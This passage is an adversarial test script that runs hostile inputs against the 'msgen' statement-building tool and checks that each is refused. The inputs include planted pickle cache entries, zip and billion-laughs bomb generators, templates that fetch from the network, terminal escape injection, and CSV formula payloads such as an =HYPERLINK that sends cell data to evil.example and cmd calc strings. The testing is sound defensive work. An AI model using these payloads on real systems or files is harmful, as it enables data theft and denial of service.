"""Hostile cases against msgen, each run as a user would run it (issue 15's acceptance).

    .venv/bin/python scripts/adversary.py [--only TEXT] [--seconds N] [--list]

Every case makes real files in a temporary folder (named pipes, links to /dev/zero,
link loops, planted cache entries, hostile templates, zip bombs made on the fly...),
runs the real `msgen` command line in subprocesses, and checks the promise it names:
the exit code, the one line msgen says (never a traceback) and the files on disk
afterwards. A case runs in a process group of its own and is killed after --seconds,
so a hang is a broken case, never a stuck run. The output lists each case, then per
class of issue 15 how many were tried and held, then `N cases: N held, N broken`; the
exit code is 1 if any case broke. The helpers are the reliability tests' own (tests/).
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import io
import json
import multiprocessing
import os
import pickle
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from functools import partial
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests"))
WORKSPACE = Path(tempfile.mkdtemp(prefix="msgen-adversary-"))  # private (0700): also the cache's parent
os.environ["MSGEN_CACHE_DIR"] = str(WORKSPACE / "cache")  # before the helpers copy the environment

import docx  # noqa: E402
from docx.opc.constants import RELATIONSHIP_TYPE  # noqa: E402
from docx.opc.packuri import PackURI  # noqa: E402
from docx.opc.part import Part  # noqa: E402
from docx.oxml import parse_xml  # noqa: E402
from jinja2.bccache import bc_magic  # noqa: E402
from test_bad_inputs import BASE_PROFILE, REPORT_LINE, USER_ENV, msgen_command  # noqa: E402
from test_reliability_cache import _Touch  # noqa: E402
from test_reliability_errors_doc import (  # noqa: E402
    ERRORS_DOC,
    ROWS,
    Row,
    built,
    edited,
    profile,
    templates_with,
)
from test_reliability_io import (  # noqa: E402
    CHARTER,
    SAID,
    STATEMENT,
    _unusual,
    held_msgen,
    signed_by,
    signer,
    wait_for,
)
from test_reliability_network import _linked_image_docx  # noqa: E402
from test_reliability_terminal import ACTIVE  # noqa: E402
from test_safety import profiles  # noqa: E402

from msgen.profile.loader import load_profile  # noqa: E402
from msgen.profile.validate import _validity_key  # noqa: E402

CLASSES = {
    1: "the cache holds no code and nothing trusted",
    2: "writing is atomic and exclusive",
    3: "every read has a bound",
    4: "nothing reaches the network",
    5: "numbers mean one thing",
    6: "templates and packages are bounded",
    7: "a batch survives a lost worker",
    8: "terminal output is inert",
    9: "the registry CSV neutralises formulas",
    10: "interrupts and lost output end cleanly",
    11: "pull refuses another profile's document",
    12: "exit codes and messages match docs/errors.md",
}
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BASE_SLUG = "exampleshire-police"
BASE_DOCUMENTS = [f"{BASE_SLUG}-modern-slavery-statement-2023-24.docx", f"{BASE_SLUG}-supplier-charter-2023-24.docx"]


@dataclass(frozen=True)
class Case:
    number: int  # the class of issue 15
    promise: str
    check: Callable[[Path], None]


CASES: list[Case] = []
SEEN: list[tuple[int, str]] = []  # (exit code, output) of every refusal the running case checked
EARLIER: list[tuple[int, str]] = []  # ... and those of the cases before it, for class 12
FINDING = re.compile(r"^ +\S+:\d+: .+$")  # msgen check's report: an indented FILE:LINE: message


def case(number: int, promise: str) -> Callable:
    def register(check: Callable[[Path], None]) -> Callable[[Path], None]:
        CASES.append(Case(number, promise, check))
        return check
    return register


# -- running msgen and judging what it did ---------------------------------------------------

def msgen(*args: object, env: dict[str, str] | None = None, **options) -> subprocess.CompletedProcess:
    """`msgen ARGS` as a user runs it (the case's own time bound stops a hang)."""
    streams = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, **options}
    return subprocess.run(msgen_command([str(arg) for arg in args]), check=False, text=True,
                          env={**USER_ENV, **(env or {})}, **streams)


def refused(result: subprocess.CompletedProcess, code: int, said: str) -> None:
    """Exit `code`, and `said` in one report line of msgen's (an error, a warning, a
    validation problem or a summary), with no traceback anywhere."""
    output = result.stdout + result.stderr
    SEEN.append((result.returncode, output))
    assert "Traceback" not in output and "internal error" not in output, _last(output)
    assert result.returncode == code, f"exit {result.returncode}, not {code}: {_last(output)}"
    lines = [line for line in output.splitlines() if said in line]
    assert lines, f"{said!r} not said: {_last(output)}"
    assert all(REPORT_LINE.match(line) or FINDING.match(line) for line in lines), f"not one clear line: {lines[0]!r}"


def succeeded(result: subprocess.CompletedProcess) -> None:
    output = result.stdout + result.stderr
    assert result.returncode == 0 and "Traceback" not in output, f"exit {result.returncode}: {_last(output)}"


def _last(output: str) -> str:
    return (output.strip().splitlines() or ["(nothing)"])[-1][:300]


def names(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def folder(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    return path


def private_cache(path: Path) -> dict[str, str]:
    path.mkdir(mode=0o700)
    return {"MSGEN_CACHE_DIR": str(path)}


def build_base(where: Path, *options: object, env: dict[str, str] | None = None,
               replace: dict[str, str] | None = None) -> tuple[subprocess.CompletedProcess, Path]:
    """The corpus's base profile built into WHERE/out; the run and the output folder."""
    path = profile(folder(where), replace)
    out = folder(where / "out")
    return msgen("build", path, "-o", out, *options, env=env), out


def document_text(path: Path) -> str:
    return "".join(node.text or "" for node in docx.Document(str(path)).element.body.iter()
                   if node.tag == f"{{{W}}}t")


# -- class 1: the cache holds no code and nothing trusted ---------------------------------

@case(1, "planted template bytecode (a pickle) never runs, and the next build is byte-identical")
def planted_bytecode(tmp: Path) -> None:
    env = private_cache(tmp / "cache")
    first, out = build_base(tmp / "first", env=env)
    succeeded(first)
    entries = list((tmp / "cache" / "jinja").iterdir())
    assert entries, "the build cached no compiled template, so nothing was planted"
    ran = tmp / "planted-code-ran"
    for entry in entries:
        entry.write_bytes(bc_magic + pickle.dumps(_Touch(ran)) + b"code")
    second, again = build_base(tmp / "second", env=env)
    succeeded(second)
    assert not ran.exists(), "a planted cache entry ran code"
    assert [(again / name).read_bytes() for name in BASE_DOCUMENTS] == [(out / name).read_bytes()
                                                                        for name in BASE_DOCUMENTS]


@case(1, "forged prepared template XML (with a matching checksum) never changes the text built")
def forged_prepared_xml(tmp: Path) -> None:
    env = private_cache(tmp / "cache")
    first, out = build_base(tmp / "first", env=env)
    succeeded(first)
    forged = 0
    for entry in (tmp / "cache" / "docxtpl").iterdir():
        text = entry.read_bytes().partition(b"\n")[2]
        if b"Modern Slavery" in text:
            text = text.replace(b"Modern Slavery", b"FORGED")
            entry.write_bytes(hashlib.sha256(text).hexdigest().encode() + b"\n" + text)
            forged += 1
    assert forged, "no prepared XML in the cache to forge"
    second, again = build_base(tmp / "second", env=env)
    succeeded(second)
    assert "FORGED" not in document_text(again / BASE_DOCUMENTS[0])
    assert (again / BASE_DOCUMENTS[0]).read_bytes() == (out / BASE_DOCUMENTS[0]).read_bytes()


@case(1, "a planted 'found valid' entry never lets a slug with ../ build outside -o")
def forged_valid_marker(tmp: Path) -> None:
    env = private_cache(tmp / "cache")
    path = profile(tmp, {f"slug: {BASE_SLUG}": "slug: ../escaped"})
    refused(msgen("validate", path, env=env), 1, "slug")
    marker = tmp / "cache" / "valid" / _validity_key(load_profile(path))
    out = folder(tmp / "out")
    for forged in (b"", hashlib.sha256(b"valid").hexdigest().encode() + b"\nvalid"):
        marker.parent.mkdir(exist_ok=True)
        marker.write_bytes(forged)
        refused(msgen("build", path, "-o", out, env=env), 1, "slug")
    assert names(out) == [] and not list(tmp.glob("*.docx"))


@case(1, "a cache folder anyone may write is not used (one warning, nothing written there)")
def shared_cache(tmp: Path) -> None:
    shared = tmp / "shared"
    shared.mkdir()
    shared.chmod(0o777)
    refused(msgen("validate", BASE_PROFILE, env={"MSGEN_CACHE_DIR": str(shared)}), 0, "msgen's cache is not used")
    assert names(shared) == []


@case(1, "a private cache inside a folder others may write is not used either")
def cache_below_a_shared_folder(tmp: Path) -> None:
    shared = tmp / "shared"
    shared.mkdir()
    shared.chmod(0o777)
    cache = shared / "cache"
    cache.mkdir(mode=0o700)
    refused(msgen("validate", BASE_PROFILE, env={"MSGEN_CACHE_DIR": str(cache)}), 0, "msgen's cache is not used")
    assert names(cache) == []


@case(1, "a redline program planted in python-redlines' own cache is never run nor chmod-ed")
def planted_redline_program(tmp: Path) -> None:
    ran = tmp / "planted-program-ran"
    script = tmp / "planted.sh"
    script.write_text(f"#!/bin/sh\ntouch {ran}\n")
    script.chmod(0o600)
    for release in ("2.0.0", "1.0.0"):
        planted = folder(tmp / "xdg" / "python-redlines" / "docxodus" / release / "linux-x64")
        (planted / "redline").symlink_to(script)
    _, statement = built(tmp / "built")
    env = {"XDG_CACHE_HOME": str(tmp / "xdg"), **private_cache(tmp / "cache")}
    succeeded(msgen("redline", statement, statement, "-o", tmp / "changes.docx", env=env))
    assert not ran.exists() and script.stat().st_mode & 0o777 == 0o600


# -- class 2: writing is atomic and exclusive --------------------------------------------------

@case(2, "eight concurrent builds without --force: one writes, seven say 'already exists', nothing mixed")
def concurrent_builds(tmp: Path) -> None:
    paths = signed_by(tmp / "profiles", 8)
    out = folder(tmp / "out")
    with ThreadPoolExecutor(8) as pool:
        results = list(pool.map(lambda path: msgen("build", path, "-o", out), paths))
    winners = [number for number, result in enumerate(results) if result.returncode == 0]
    assert len(winners) == 1, f"{len(winners)} runs said they wrote"
    for result in results:
        if result.returncode:
            refused(result, 3, "already exists")
    assert names(out) == sorted([STATEMENT, CHARTER])
    assert signer(out / STATEMENT) == signer(out / CHARTER) == f"{winners[0]:02d}"


@case(2, "eight concurrent builds with --force: the statement and the charter come from one run")
def concurrent_forced_builds(tmp: Path) -> None:
    paths = signed_by(tmp / "profiles", 8)
    out = folder(tmp / "out")
    with ThreadPoolExecutor(8) as pool:
        results = list(pool.map(lambda path: msgen("build", path, "-o", out, "--force"), paths))
    for result in results:
        succeeded(result)
    assert names(out) == sorted([STATEMENT, CHARTER])
    assert signer(out / STATEMENT) == signer(out / CHARTER)


@case(2, "a dangling symlink at an output name is not replaced without --force, nor anything written")
def dangling_link(tmp: Path) -> None:
    out = folder(tmp / "out")
    (out / BASE_DOCUMENTS[0]).symlink_to(tmp / "nowhere.docx")
    result, _ = build_base(tmp, env=None)
    refused(result, 3, "already exists (a symbolic link)")
    assert names(out) == [BASE_DOCUMENTS[0]] and os.readlink(out / BASE_DOCUMENTS[0]) == str(tmp / "nowhere.docx")
    assert not (tmp / "nowhere.docx").exists()


@case(2, "--force replaces a symlink at an output name, never the approved file it points to")
def link_to_approved(tmp: Path) -> None:
    approved = tmp / "approved.docx"
    approved.write_bytes(b"last year's approved statement")
    out = folder(tmp / "out")
    (out / BASE_DOCUMENTS[0]).symlink_to(approved)
    refused(build_base(tmp)[0], 3, "already exists")
    succeeded(build_base(tmp, "--force")[0])
    assert not (out / BASE_DOCUMENTS[0]).is_symlink() and approved.read_bytes() == b"last year's approved statement"


@case(2, "a document open in LibreOffice (.~lock.NAME#) is not replaced, even with --force")
def libreoffice_lock(tmp: Path) -> None:
    out = folder(tmp / "out")
    (out / BASE_DOCUMENTS[0]).write_bytes(b"being edited")
    (out / f".~lock.{BASE_DOCUMENTS[0]}#").write_text("someone,host")
    refused(build_base(tmp, "--force")[0], 3, "the file is open in LibreOffice")
    assert (out / BASE_DOCUMENTS[0]).read_bytes() == b"being edited" and len(names(out)) == 2


@case(2, "a document open in Word (~$ owner file) is not replaced, even with --force")
def word_lock(tmp: Path) -> None:
    out = folder(tmp / "out")
    (out / BASE_DOCUMENTS[1]).write_bytes(b"being edited")
    (out / ("~$" + BASE_DOCUMENTS[1][2:])).write_text("someone")
    refused(build_base(tmp, "--force")[0], 3, "the file is open in Word")
    assert (out / BASE_DOCUMENTS[1]).read_bytes() == b"being edited" and len(names(out)) == 2


@case(2, "next-year -o a link to its own profile is refused even with --force; the profile is intact")
def output_links_to_input(tmp: Path) -> None:
    path = profile(tmp)
    before = path.read_bytes()
    (tmp / "next.yaml").symlink_to(path.name)
    refused(msgen("next-year", path, "-o", tmp / "next.yaml", "--force"), 2, "the output would replace the input")
    assert path.read_bytes() == before and (tmp / "next.yaml").is_symlink()


@case(2, "templates export over a symlink: refused without --force; with it, the link replaced, not its target")
def export_over_link(tmp: Path) -> None:
    approved = tmp / "approved.docx"
    approved.write_bytes(b"an approved statement")
    templates = folder(tmp / "templates")
    (templates / "statement.docx").symlink_to(approved)
    refused(msgen("templates", "export", templates), 3, "already exists (a symbolic link)")
    assert names(templates) == ["statement.docx"]
    succeeded(msgen("templates", "export", templates, "--force"))
    assert not (templates / "statement.docx").is_symlink() and approved.read_bytes() == b"an approved statement"


# -- class 3: every read has a bound ------------------------------------------------------------

def _odd_profile(tmp: Path, kind: str, command: str) -> None:
    odd = tmp / "odd.yaml"
    _unusual(kind, odd)
    arguments = {"build": ["build", odd, "-o", tmp], "validate": ["validate", odd], "check": ["check", odd],
                 "next-year": ["next-year", odd, "-o", tmp / "next.yaml"], "registry": ["registry", odd]}[command]
    before = names(tmp)
    refused(msgen(*arguments), 2, SAID[kind])
    assert names(tmp) == before


for kind, command, promise in [
        ("fifo", "build", "a named pipe as the profile of build is refused at once, not read for ever"),
        ("/dev/zero", "next-year", ("a link to /dev/zero as the profile of next-year is refused, not read until "
                                    "memory runs out")),
        ("loop", "validate", "a symbolic link loop as the profile of validate is reported as a loop"),
        ("socket", "check", "a socket as the profile of check is refused"),
        ("fifo", "registry", "a named pipe as the profile of registry is refused")]:
    case(3, promise)(partial(_odd_profile, kind=kind, command=command))


@case(3, "a named pipe given to check --docx is refused")
def fifo_docx(tmp: Path) -> None:
    odd = tmp / "statement.docx"
    _unusual("fifo", odd)
    refused(msgen("check", BASE_PROFILE, "--docx", odd), 2, SAID["fifo"])


@case(3, "a link to /dev/zero given to redline is refused and no comparison written")
def zero_redline(tmp: Path) -> None:
    _, statement = built(tmp / "built")
    odd = tmp / "old.docx"
    _unusual("/dev/zero", odd)
    refused(msgen("redline", odd, statement, "-o", tmp / "changes.docx"), 2, SAID["/dev/zero"])
    assert not (tmp / "changes.docx").exists()


@case(3, "a named pipe given to pull is refused and the profile not rewritten")
def fifo_pull(tmp: Path) -> None:
    path, _ = built(tmp / "built")
    before = path.read_bytes()
    odd = tmp / "reviewed.docx"
    _unusual("fifo", odd)
    refused(msgen("pull", odd, "--profile", path, "-o", tmp / "pulled.yaml"), 2, SAID["fifo"])
    assert path.read_bytes() == before and not (tmp / "pulled.yaml").exists()


@case(3, "a named pipe in place of a template is refused and nothing built")
def fifo_template(tmp: Path) -> None:
    templates = tmp / "templates"
    succeeded(msgen("templates", "export", templates))
    (templates / "statement.docx").unlink()
    _unusual("fifo", templates / "statement.docx")
    out = folder(tmp / "out")
    refused(msgen("build", BASE_PROFILE, "-o", out, "--templates", templates), 2, SAID["fifo"])
    assert names(out) == []


@case(3, "a named pipe as a signature image beside the profile is refused and nothing built")
def fifo_signature(tmp: Path) -> None:
    _unusual("fifo", tmp / "signature.png")
    data = load_profile(BASE_PROFILE).data
    data["signatories"][0]["signature_image"] = {"path": "signature.png", "alt_text": "Signature of the signatory"}
    path = tmp / "signed.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    out = folder(tmp / "out")
    refused(msgen("build", path, "-o", out), 1, SAID["fifo"])
    assert names(out) == []


@case(3, "a signature image that links to a file outside the profile's folder is refused")
def linked_signature(tmp: Path) -> None:
    (tmp / "signature.png").symlink_to("/etc/hostname")
    data = load_profile(BASE_PROFILE).data
    data["signatories"][0]["signature_image"] = {"path": "signature.png", "alt_text": "Signature of the signatory"}
    path = tmp / "signed.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    out = folder(tmp / "out")
    refused(msgen("build", path, "-o", out), 1, "'signature.png' is outside the profile's folder")
    assert names(out) == []


@case(3, "a 3 MB profile is refused by its size before it is parsed")
def huge_profile(tmp: Path) -> None:
    path = tmp / "huge.yaml"
    path.write_text(BASE_PROFILE.read_text(encoding="utf-8") + "# padding\n" * 300_000, encoding="utf-8")
    refused(msgen("validate", path), 1, "a profile is at most 2 MB")


@case(3, "a named pipe among the profiles of a folder does not hang the build of that folder")
def fifo_in_folder(tmp: Path) -> None:
    profiles_folder = folder(tmp / "profiles")
    shutil.copy(BASE_PROFILE, profiles_folder / "profile.yaml")
    _unusual("fifo", profiles_folder / "odd.yaml")
    out = folder(tmp / "out")
    refused(msgen("build", profiles_folder, "-o", out), 2, SAID["fifo"])
    assert names(out) in ([], BASE_DOCUMENTS)


# -- class 4: nothing reaches the network ----------------------------------------------------

def _exported(tmp: Path) -> Path:
    templates = tmp / "templates"
    succeeded(msgen("templates", "export", templates))
    return templates


def _refuses_template(tmp: Path, templates: Path) -> None:
    out = folder(tmp / "out")
    refused(msgen("build", BASE_PROFILE, "-o", out, "--templates", templates), 1, "would fetch from the network")
    assert names(out) == []


def _with_field(templates: Path, instruction: str) -> Path:
    """The statement template with a field (w:fldSimple) whose instruction is given."""
    document = docx.Document(str(templates / "statement.docx"))
    document.add_paragraph()._p.append(parse_xml(
        f'<w:fldSimple xmlns:w="{W}" w:instr=\'{instruction}\'><w:r><w:t>x</w:t></w:r></w:fldSimple>'))
    document.save(str(templates / "statement.docx"))
    return templates


@case(4, "a template with a linked (external) image is refused before anything is built")
def linked_image_template(tmp: Path) -> None:
    templates = _exported(tmp)
    _linked_image_docx(templates / "statement.docx", "http://127.0.0.1:9/tracking.png")
    _refuses_template(tmp, templates)


@case(4, "a template with an INCLUDEPICTURE field is refused")
def includepicture_template(tmp: Path) -> None:
    _refuses_template(tmp, _with_field(_exported(tmp), 'INCLUDEPICTURE "http://127.0.0.1:9/a.png" \\d'))


@case(4, "a template with an INCLUDETEXT field is refused")
def includetext_template(tmp: Path) -> None:
    _refuses_template(tmp, _with_field(_exported(tmp), 'INCLUDETEXT "http://127.0.0.1:9/a.docx"'))


@case(4, "a template with an altChunk (an embedded document) is refused")
def altchunk_template(tmp: Path) -> None:
    templates = _exported(tmp)
    document = docx.Document(str(templates / "statement.docx"))
    chunk = Part(PackURI("/word/afchunk.html"), "text/html", b"<html><img src='http://127.0.0.1:9/a.png'></html>",
                 document.part.package)
    relationship = document.part.relate_to(chunk, RELATIONSHIP_TYPE.A_F_CHUNK)
    document.element.body.insert(0, parse_xml(
        f'<w:altChunk xmlns:w="{W}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        f'r:id="{relationship}"/>'))
    document.save(str(templates / "statement.docx"))
    _refuses_template(tmp, templates)


@case(4, "a javascript: link in a profile never reaches a document")
def javascript_link(tmp: Path) -> None:
    path = profile(tmp, {"https://www.exampleshire": "javascript:alert(1)//www.exampleshire"})
    out = folder(tmp / "out")
    refused(msgen("build", path, "-o", out, "--format", "docx,html"), 1, "expected a full web address starting https://")
    assert names(out) == []


@case(4, "every link in a built web page is http(s), mailto or within the page")
def html_links(tmp: Path) -> None:
    result, out = build_base(tmp, "--format", "html")
    succeeded(result)
    pages = list(out.glob("*.html"))
    assert pages, names(out)
    links = [link for page in pages for link in re.findall(r'(?:href|src)="([^"]*)"', page.read_text("utf-8"))]
    assert links and all(link.startswith(("https://", "http://", "mailto:", "#")) for link in links), links


# -- class 5: numbers mean one thing --------------------------------------------------------------

def _number(tmp: Path, written: str, command: str) -> None:
    path = profile(tmp, {"years_producing: 3": f"years_producing: {written}"})
    out = folder(tmp / "out")
    arguments = {"build": ["build", path, "-o", out], "next-year": ["next-year", path, "-o", out / "next.yaml"],
                 "check": ["check", path], "registry": ["registry", path], "validate": ["validate", path]}[command]
    refused(msgen(*arguments), 1, f"'{written}' is a number YAML readers disagree on")
    assert names(out) == []


for written, command, promise in [
        ("010", "build", "010 (8 in YAML 1.1, 10 in 1.2) is refused by build, nothing built"),
        ("1:00", "next-year", "1:00 (60 in YAML 1.1) is refused by next-year, nothing written"),
        ("1e5", "check", "1e5 (text in YAML 1.1) is refused by check"),
        ("0x1F", "registry", "0x1F is refused by registry")]:
    case(5, promise)(partial(_number, written=written, command=command))


@case(5, "3.0 in a whole-number field is refused at validation and build writes nothing")
def float_whole_number(tmp: Path) -> None:
    data = load_profile(BASE_PROFILE).data
    data["statement"]["years_producing"] = 3.0
    path = tmp / "profile.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    refused(msgen("validate", path), 1, "statement.years_producing: expected a whole number, got 3.0")
    out = folder(tmp / "out")
    refused(msgen("build", path, "-o", out), 1, "expected a whole number, got 3.0")
    assert names(out) == []


@case(5, "text that looks like a number ('10:30') is still that text after next-year rewrites the profile")
def number_like_text_survives_next_year(tmp: Path) -> None:
    path = profile(tmp, {"body: Chief Officer Group": "body: '10:30'"})
    succeeded(msgen("next-year", path, "-o", tmp / "next.yaml"))
    succeeded(msgen("validate", tmp / "next.yaml"))
    assert load_profile(tmp / "next.yaml").data["approval"]["body"] == "10:30"


# -- class 6: templates and packages are bounded ---------------------------------------------

def _bounded_template(tmp: Path, code: str, said: str) -> None:
    templates = templates_with(tmp, code)
    out = folder(tmp / "out")
    refused(msgen("build", BASE_PROFILE, "-o", out, "--templates", templates), 1, said)
    assert names(out) == []


for code, said, promise in [
        ("{{ 10 ** 100000 }}", "10 ** 100000", "a template computing 10 ** 100000 is refused before it is computed"),
        ("{{ 'ab' * 10000000 }}", "a text or list repeated", "a template repeating a text 10,000,000 times is refused"),
        ("{% for i in range(10 ** 8) %}{% endfor %}", "range()", "a template looping over range(10 ** 8) is refused")]:
    case(6, promise)(partial(_bounded_template, code=code, said="the template asks for too much: " + said))


def zip_bomb(source: Path, target: Path, megabytes: int = 300, parts: int = 0) -> Path:
    """`source` with a part of `megabytes` MB of zeros (a few hundred kB compressed), or
    with `parts` extra tiny parts: what the message calls a package too large to open."""
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED,
                                                               compresslevel=9) as bomb:
        for item in original.infolist():
            bomb.writestr(item, original.read(item))
        if parts:
            for number in range(parts):
                bomb.writestr(f"customXml/part{number}.xml", "<a/>")
        else:
            with bomb.open("word/media/bomb.bin", "w", force_zip64=True) as stream:
                zeros = bytes(2**20)
                for _ in range(megabytes):
                    stream.write(zeros)
    return target


@case(6, "check --docx refuses a .docx whose part would expand to 300 MB")
def bomb_check(tmp: Path) -> None:
    path, statement = built(tmp / "built")
    bomb = zip_bomb(statement, tmp / "bomb.docx")
    assert bomb.stat().st_size < 2 * 2**20
    refused(msgen("check", path, "--docx", bomb), 1, "too large to open safely")


@case(6, "redline refuses a zip bomb and writes no comparison")
def bomb_redline(tmp: Path) -> None:
    _, statement = built(tmp / "built")
    bomb = zip_bomb(statement, tmp / "bomb.docx")
    refused(msgen("redline", bomb, statement, "-o", tmp / "changes.docx"), 1, "too large to open safely")
    assert not (tmp / "changes.docx").exists()


@case(6, "pull refuses a zip bomb and leaves the profile alone")
def bomb_pull(tmp: Path) -> None:
    path, statement = built(tmp / "built")
    before = path.read_bytes()
    bomb = zip_bomb(statement, tmp / "bomb.docx")
    refused(msgen("pull", bomb, "--profile", path, "-o", tmp / "pulled.yaml"), 1, "too large to open safely")
    assert path.read_bytes() == before and not (tmp / "pulled.yaml").exists()


@case(6, "build refuses a template that is a zip bomb and builds nothing")
def bomb_template(tmp: Path) -> None:
    templates = _exported(tmp)
    zip_bomb(templates / "statement.docx", tmp / "bomb.docx").replace(templates / "statement.docx")
    out = folder(tmp / "out")
    refused(msgen("build", BASE_PROFILE, "-o", out, "--templates", templates), 1, "too large to open safely")
    assert names(out) == []


@case(6, "check --docx refuses a .docx of 3,000 parts")
def many_parts(tmp: Path) -> None:
    path, statement = built(tmp / "built")
    refused(msgen("check", path, "--docx", zip_bomb(statement, tmp / "many.docx", parts=3000)), 1,
            "too large to open safely")


def entity_bomb(source: Path, target: Path) -> Path:
    """`source` whose main part declares nested XML entities (a billion laughs: a few
    hundred bytes that expand to gigabytes) and uses the outermost one."""
    with zipfile.ZipFile(source) as original:
        parts = {item.filename: original.read(item) for item in original.infolist()}
    entities = '<!ENTITY a0 "laughing">' + "".join(
        f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 10))
    parts["word/document.xml"] = re.sub(rb"(<\?xml[^>]*\?>)", rb"\1" + f"<!DOCTYPE w:document [{entities}]>".encode(),
                                        parts["word/document.xml"], count=1).replace(b"Exampleshire", b"&a9;", 1)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as bomb:
        for name, data in parts.items():
            bomb.writestr(name, data)
    return target


def _not_a_document(tmp: Path, command: str, make: Callable[[Path, Path], Path]) -> None:
    path, statement = built(tmp / "built")
    wrong = make(statement, tmp / "wrong.docx")
    arguments = {"check": ["check", path, "--docx", wrong],
                 "pull": ["pull", wrong, "--profile", path, "-o", tmp / "pulled.yaml"],
                 "redline": ["redline", wrong, statement, "-o", tmp / "changes.docx"]}[command]
    refused(msgen(*arguments), 1, "wrong.docx")
    assert names(tmp) == ["built", "wrong.docx"]


def renamed_text(_: Path, target: Path) -> Path:
    target.write_text("a PDF renamed, say", encoding="utf-8")
    return target


for command in ("check", "pull", "redline"):
    case(6, f"{command} refuses a billion-laughs entity bomb in a .docx's XML, in one line")(
        partial(_not_a_document, command=command, make=entity_bomb))
    case(12, f"{command} refuses a text file named .docx with the exit code errors.md gives (1)")(
        partial(_not_a_document, command=command, make=renamed_text))


# -- class 7: a batch survives a lost worker --------------------------------------------------

def _lost_worker(tmp: Path, how: signal.Signals) -> None:
    paths = profiles(tmp / "profiles", 4)
    out = folder(tmp / "out")
    build = held_msgen("msgen.batch.prepare_profile", "force-01", tmp / "ready", "build", *paths, "-o", out,
                       "--jobs", "2")
    os.kill(wait_for(tmp / "ready", build), how)
    stdout, stderr = build.communicate()
    refused(subprocess.CompletedProcess(build.args, build.returncode, stdout, stderr), 3,
            "the process building this profile was killed")
    assert "4 profile(s): 3 built, 1 failed" in stdout, _last(stdout)
    assert sorted({name.split("-modern")[0].split("-supplier")[0] for name in names(out)}) == [
        "force-00", "force-02", "force-03"]


case(7, "a worker killed by the out-of-memory killer (SIGKILL) fails its profile alone")(
    partial(_lost_worker, how=signal.SIGKILL))
case(7, "a worker that crashes (SIGSEGV) fails its profile alone")(partial(_lost_worker, how=signal.SIGSEGV))


@case(7, "an invalid profile in a batch fails alone; the others are built and the exit code says 1")
def invalid_in_batch(tmp: Path) -> None:
    paths = profiles(tmp / "profiles", 3)
    paths[1].write_text(paths[1].read_text(encoding="utf-8").replace('"force-01"', '"Force 01"'), encoding="utf-8")
    out = folder(tmp / "out")
    refused(msgen("build", *paths, "-o", out, "--jobs", "2"), 1, "is not in the expected form")
    assert len(names(out)) == 4 and not any(name.startswith("force-01") for name in names(out))


# -- class 8: terminal output is inert ----------------------------------------------------------

def _inert(result: subprocess.CompletedProcess, code: int, escaped: str) -> None:
    output = result.stdout + result.stderr
    SEEN.append((result.returncode, output))
    assert result.returncode == code and "Traceback" not in output, f"exit {result.returncode}: {_last(output)}"
    assert not any(char in output for char in ACTIVE), f"raw control character in {output[-200:]!r}"
    assert "1 profile(s) valid" not in output.splitlines(), "a profile forged a summary line"
    assert escaped in output, f"{escaped!r} not in {_last(output)!r}"


@case(8, "an unknown key that clears the screen and forges a summary is shown escaped")
def hostile_key(tmp: Path) -> None:
    data = load_profile(BASE_PROFILE).data
    data["\x1b[2J\x1b[H\r\n1 profile(s) valid\n"] = "x"
    path = tmp / "profile.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    _inert(msgen("validate", path), 1, "\\x1b[2J\\x1b[H\\r\\n1 profile(s) valid\\n")


@case(8, "a file name holding escape sequences and a forged line is shown escaped")
def hostile_file_name(tmp: Path) -> None:
    path = tmp / "\x1b[31mred\x1b[0m\n1 profile(s) valid.yaml"
    path.write_text("- not a mapping\n", encoding="utf-8")
    _inert(msgen("validate", path), 1, "\\x1b[31mred\\x1b[0m\\n1 profile(s) valid.yaml")


@case(8, "a window-title escape in a profile's value, quoted back in a message, is shown escaped")
def hostile_value(tmp: Path) -> None:
    data = load_profile(BASE_PROFILE).data
    data["statement"]["kind"] = "\x1b]0;pwned\x07single"
    path = tmp / "profile.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    _inert(msgen("validate", path), 1, "\\x1b]0;pwned\\x07")


@case(8, "a right-to-left override in a missing file's name is shown escaped")
def bidi_file_name(tmp: Path) -> None:
    _inert(msgen("build", tmp / "statement\u202eLMAY.json", "-o", tmp), 2, "\\u202e")


# -- class 9: the registry CSV neutralises formulas ------------------------------------------

def _registry_cells(tmp: Path, name: str, output: bool) -> list[str]:
    data = load_profile(BASE_PROFILE).data
    data["organisations"][0]["name"] = name
    path = tmp / "profile.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    result = msgen("registry", path, *(["-o", tmp / "registry.csv"] if output else []))
    succeeded(result)
    text = (tmp / "registry.csv").read_text(encoding="utf-8-sig") if output else result.stdout
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@case(9, "a name starting = (a HYPERLINK formula) is written as text in the CSV on stdout")
def csv_equals(tmp: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    cells = _registry_cells(tmp, formula, output=False)
    assert "'" + formula in cells and formula not in cells


@case(9, "names starting + - @ are written as text in the CSV file")
def csv_plus_minus_at(tmp: Path) -> None:
    for number, formula in enumerate(("+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")):
        cells = _registry_cells(folder(tmp / str(number)), formula, output=True)
        assert "'" + formula in cells, cells
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells


# -- class 10: interrupts and lost output end cleanly ---------------------------------------

def _interrupted(tmp: Path, command: str, how: signal.Signals) -> None:
    profiles_folder = folder(tmp / "profiles")
    path = profiles_folder / "profile.yaml"
    shutil.copy(BASE_PROFILE, path)
